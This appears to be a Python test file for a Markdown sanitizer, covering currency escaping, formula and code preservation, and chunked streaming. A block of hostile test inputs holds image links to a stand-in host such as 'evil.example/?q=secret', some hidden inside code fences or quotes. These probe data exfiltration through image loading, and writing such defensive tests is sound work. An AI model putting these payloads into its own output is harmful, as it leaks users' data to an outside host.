"""Foreign Markdown: no picture of another host loads, money stays money, pieces change nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pages.widgets.text import Cleaner, clean, plain

PARTS = st.sampled_from(
    ["![a](http://e/x.png)", "`", "```", "```py\n", "\n", "$", "$$", "$5 ", "x^2", "\\", "- ",
     "1. ", "> ", "~~~\n", "!", "[", "word ", " ", "\\(", "\\)", "**b**"]
)  # fmt: skip


@pytest.mark.parametrize(
    ("given_text", "drawn"),
    [
        ("It costs $5 and $10.", "It costs \\$5 and \\$10."),
        ("US$ 3, $USD", "US\\$ 3, \\$USD"),
        ("let $x^2$ be", "let $x^2$ be"),
        ("$$\na$b\n$$ $7", "$$\na$b\n$$ \\$7"),
        ("\\( x \\) and \\[ y \\]", "$ x $ and $$ y $$"),
        ("`$x` and `$5`", "`$x` and `$5`"),
        ("```sh\necho $HOME ![](x)\n```\n$5", "```sh\necho $HOME ![](x)\n```\n\\$5"),
        ("`unclosed $4", "`unclosed \\$4"),
        ("already \\$5", "already \\$5"),
        ("wow! [link](https://a.example)", "wow! [link](https://a.example)"),
    ],
)
def test_money_is_escaped_and_formulas_and_code_are_kept(given_text: str, drawn: str) -> None:
    assert clean(given_text) == drawn


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "[![x](https://evil.example/a)](https://evil.example/b)",
        "![x][ref]\n\n[ref]: https://evil.example/a",
        "- ```\n  code\n![x](https://evil.example/a)",
        "> ```\n![x](https://evil.example/a)",
        "```not a `fence`\n![x](https://evil.example/a)",
        "`open ![x](https://evil.example/a)",
        "```\ncode\n```\n![x](https://evil.example/a)",
        "$$ ![x](https://evil.example/a)",
    ],
)
def test_no_picture_of_another_host_is_drawn(hostile: str) -> None:
    assert "![" not in clean(hostile)
    assert "evil.example" in clean(hostile)


@given(st.lists(PARTS, max_size=25), st.lists(st.integers(1, 5), min_size=1, max_size=9))
def test_the_pieces_in_which_a_text_comes_change_nothing(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    cleaner, drawn, position, turn = Cleaner(), "", 0, 0
    while position < len(text):
        size = cuts[turn % len(cuts)]
        drawn += cleaner.feed(text[position : position + size])
        position, turn = position + size, turn + 1
    assert drawn + cleaner.close() == clean(text)


@given(st.lists(PARTS, max_size=25))
def test_no_letter_is_lost(parts: list[str]) -> None:
    text = "".join(parts)
    letters = re.sub(r"[^a-z0-9]", "", text)
    assert re.sub(r"[^a-z0-9]", "", clean(text).replace("[picture: ", "[")) == letters


def test_typed_line_ends_are_kept_on_request() -> None:
    assert clean("one\ntwo", keeps_lines=True) == "one  \ntwo"


def test_labels_show_signs_instead_of_obeying_them() -> None:
    assert plain("**a** [b](c) $5") == "\\*\\*a\\*\\* \\[b\\]\\(c\\) \\$5"
